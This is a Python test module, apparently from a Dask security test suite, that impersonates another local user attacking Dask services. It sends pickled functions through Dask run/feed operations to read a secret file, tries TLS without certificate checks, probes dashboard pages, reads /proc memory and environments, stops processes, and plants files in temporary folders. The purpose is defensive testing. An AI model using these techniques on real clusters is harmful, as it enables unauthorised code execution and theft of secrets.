"""Another user of the machine: ``python -m tests.security.attacker`` reads from standard input whom to attack.

It starts as root, because only root may read the interpreter here, and becomes the other user before it does anything.
What it obtained it prints as JSON: one text for each success. It attacks all ports at once, each in every way: a port
that is closed to one way, or where someone else answers, takes no time from the others.
"""

import asyncio
import json
import os
import signal
import socket
import ssl
import sys
import threading
from contextlib import suppress
from pathlib import Path

from distributed import Security
from distributed.comm.core import connect
from distributed.protocol.pickle import dumps

UID = 20002
PREPARED = "dask-scratch-space"  # the attacker's own, in the folder for temporary files
PATIENCE = 5.0  # s, to be let in
ANSWERS_WITHIN = 5.0  # s, once let in
PAGES = ("/", "/health", "/info/main/workers.html", "/json/identity.json", "/metrics", "/sitemap.json", "/proxy/1/x/y")


def loot(secret, marker):
    """Read a file and write another, as whoever runs this."""
    text = Path(secret).read_text()
    Path(marker).write_text(f"uid {os.getuid()}")
    return text


def messages(secret, marker):
    """Return what makes dask's services run code, and what makes them talk."""
    call = {"function": dumps(loot), "args": dumps((secret, marker)), "kwargs": dumps({})}
    feed = {"function": dumps(lambda _: loot(secret, marker)), "setup": None, "teardown": None}
    more = {"run_function": call | {"wait": True}, "run": call | {"wait": True}, "feed": {**feed, "interval": 1}}
    more |= {"identity": {}, "versions": {}, "get_logs": {}, "gather": {"keys": []}, "register-client": {"client": "x"}}
    return [{"op": op, "reply": True, **content} for op, content in more.items()]


async def ask(comm, message):
    """Send one message; return the answer."""
    await comm.write(message)
    return await asyncio.wait_for(comm.read(), ANSWERS_WITHIN)


def ways_in(theirs):
    """Return how to speak to dask: in the clear, encrypted without a certificate, and with one of the attacker's."""
    nameless = ssl.create_default_context()
    nameless.check_hostname, nameless.verify_mode = False, ssl.CERT_NONE
    pair = {"tls_client_cert": f"{theirs}/client.pem", "tls_client_key": f"{theirs}/client.key"}
    named = Security(tls_ca_file=f"{theirs}/ca.pem", require_encryption=True, **pair).get_connection_args("client")
    named["ssl_context"].verify_mode = ssl.CERT_NONE  # whoever answers is welcome
    return {"tcp": {}, "tls": {"ssl_context": nameless, "require_encryption": True}, "tls, own certificate": named}


async def over_dask(host, port, way, arguments, orders):
    """Give a port orders as dask does, each over a connection of its own; return what it answered."""
    found = []
    for message in orders:
        try:
            comm = await connect(f"{way[:3]}://{host}:{port}", timeout=PATIENCE, **arguments)
        except Exception:  # who listens may be no dask service, and answer anything
            break  # this way is closed
        try:
            found.append(f"{host}:{port} {way} {message['op']}: {str(await ask(comm, message))[:200]}")
        except Exception:  # this service takes no such order, or what it answers cannot be read
            continue
        finally:
            comm.abort()
    return found


def over_http(host, port):
    """Ask for pages; return what was served."""
    found = []
    for page in PAGES:
        try:
            with socket.create_connection((host, port), PATIENCE) as connection:
                connection.settimeout(PATIENCE)
                connection.sendall(f"GET {page} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
                answer = connection.recv(4096)
        except OSError:
            break
        if answer.startswith(b"HTTP/"):
            found.append(f"{host}:{port} http {page}: {answer[:60]!r}")
    return found


async def on_ports(ports, orders, theirs):
    """Attack all ports at once; return what was obtained."""
    attacks = [over_dask(*port, way, arguments, orders) for port in ports for way, arguments in ways_in(theirs).items()]
    pages = [asyncio.to_thread(over_http, *port) for port in ports]
    return [text for found in await asyncio.gather(*attacks, *pages) for text in found]


def of_process(pid):
    """Look into a process, and try to stop it."""
    for name in ("environ", "maps", "mem", "fd", "cwd", "stack"):
        path = Path(f"/proc/{pid}/{name}")
        try:
            yield f"{path}: {os.listdir(path) if name == 'fd' else path.open('rb').read(64)!r}"
        except OSError:
            continue
    with suppress(OSError):
        if "PRIVATE" in (line := Path(f"/proc/{pid}/cmdline").read_text()):
            yield f"cmdline {line}"
    with suppress(OSError):
        os.kill(pid, signal.SIGSTOP)
        yield f"stopped {pid}"


def of_folder(folder):
    """Read every file that can be reached, and write beside it."""
    for root, folders, files in os.walk(folder):
        folders[:] = [name for name in folders if name != PREPARED]
        for name in files:
            try:
                yield f"{root}/{name}: {Path(root, name).read_bytes()[:40]!r}"
            except OSError:
                continue
        if root != str(folder):
            try:
                Path(root, "planted.py").write_text("x")
                yield f"wrote into {root}"
            except OSError:
                continue


def watch(folder, found, over):
    """Look for files of a moment, such as keys on their way into a context, as long as the attack lasts."""
    while not over.is_set():
        for text in of_folder(folder):
            found.add(text)


def main():
    """Become the other user, attack, print what was obtained."""
    plan = json.load(sys.stdin)
    os.setgroups([])
    os.setgid(UID)
    os.setuid(UID)
    found, over, of_files = [], threading.Event(), set()
    watcher = threading.Thread(target=watch, args=(plan["temporary"], of_files, over))
    watcher.start()
    found += asyncio.run(on_ports(plan["ports"], messages(plan["secret"], plan["marker"]), plan["theirs"]))
    for pid in plan["pids"]:
        found += of_process(pid)
    with suppress(OSError):
        found.append(Path(plan["secret"]).read_text())
    over.set()
    watcher.join()
    json.dump(found + sorted(of_files), sys.stdout)


if __name__ == "__main__":
    main()
